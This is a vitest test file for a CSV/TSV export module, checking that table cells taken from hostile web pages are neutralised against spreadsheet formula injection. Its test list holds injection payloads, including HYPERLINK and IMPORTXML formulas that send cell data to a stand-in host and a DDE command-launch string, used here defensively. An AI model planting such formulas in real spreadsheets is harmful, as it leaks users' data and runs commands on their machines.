import { describe, expect, it } from 'vitest';
import { spreadsheetText, toCsv, toTsv, type Cell, type ExtractedTable } from '../../../src/shared/table';

// Cells a hostile page can put in an extracted table. In the CSV download and the copied TSV none
// may reach a spreadsheet as a formula (OWASP: CSV injection).
const HOSTILE = [
  '=HYPERLINK("http://evil.test?x="&A1,"click")',
  '=IMPORTXML("http://evil.test/?q="&B2,"//a")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
];

const tableOf = (rows: Cell[][], columns = ['Name', 'Price']): ExtractedTable => ({
  title: 't',
  columns: columns.map((name) => ({ name, type: 'text' as const })),
  rows,
  url: '',
  pages: 1,
  unfilled: [],
  refused: [],
});

/** The fields of one CSV line as RFC 4180 reads them (no line breaks inside, enough for these rows). */
function csvFields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m[0] !== ''; m = re.exec(line)) {
    const f = m[1]!;
    out.push(f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f);
    if (m[2] === '') break;
  }
  return out;
}

describe('a table written to a file or the clipboard', () => {
  it.each(HOSTILE)('writes %j as text a spreadsheet will not run', (cell) => {
    const table = tableOf([[cell, 'ok']]);
    const csvRow = toCsv(table).split('\r\n')[1]!;
    const csvCell = csvFields(csvRow)[0]!;
    expect(csvCell).toBe(`'${cell}`);
    const tsvCell = toTsv(table).split('\n')[1]!.split('\t')[0]!;
    expect(tsvCell.startsWith("'")).toBe(true);
    expect(tsvCell).toBe(`'${cell}`.replace(/[\t\r\n]+/g, ' '));
  });

  it('quotes a marked cell as CSV requires', () => {
    const table = tableOf([['=HYPERLINK("http://evil.test?x="&A1,"click")', '@x']]);
    expect(toCsv(table).split('\r\n')[1]).toBe(`"'=HYPERLINK(""http://evil.test?x=""&A1,""click"")",'@x`);
  });

  it('marks a header a page wrote as well', () => {
    const table = tableOf([['a', 'b']], ['=cmd', 'Price']);
    expect(toCsv(table).split('\r\n')[0]).toBe("'=cmd,Price");
    expect(toTsv(table).split('\n')[0]).toBe("'=cmd\tPrice");
  });

  it('leaves numbers and text that is only a number as they are, so a spreadsheet adds them up', () => {
    const table = tableOf([[-12.5, '-12.5'], ['-1,299.50', '-3,5'], [0, '42']]);
    expect(toCsv(table)).toBe('Name,Price\r\n-12.5,-12.5\r\n"-1,299.50","-3,5"\r\n0,42\r\n');
    expect(toTsv(table)).toBe('Name\tPrice\n-12.5\t-12.5\n-1,299.50\t-3,5\n0\t42\n');
  });

  it('marks text that only looks like a number at first', () => {
    for (const cell of ['-1e5', '-12.5.3x', '- 3', '-', '+12', '-2+3']) expect(spreadsheetText(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text alone, and a sign inside the text', () => {
    for (const cell of ['Blender', 'a=b', 'x-1', ' 3', 'email@example.test', '']) expect(spreadsheetText(cell)).toBe(cell);
    expect(spreadsheetText(null)).toBe('');
  });
});
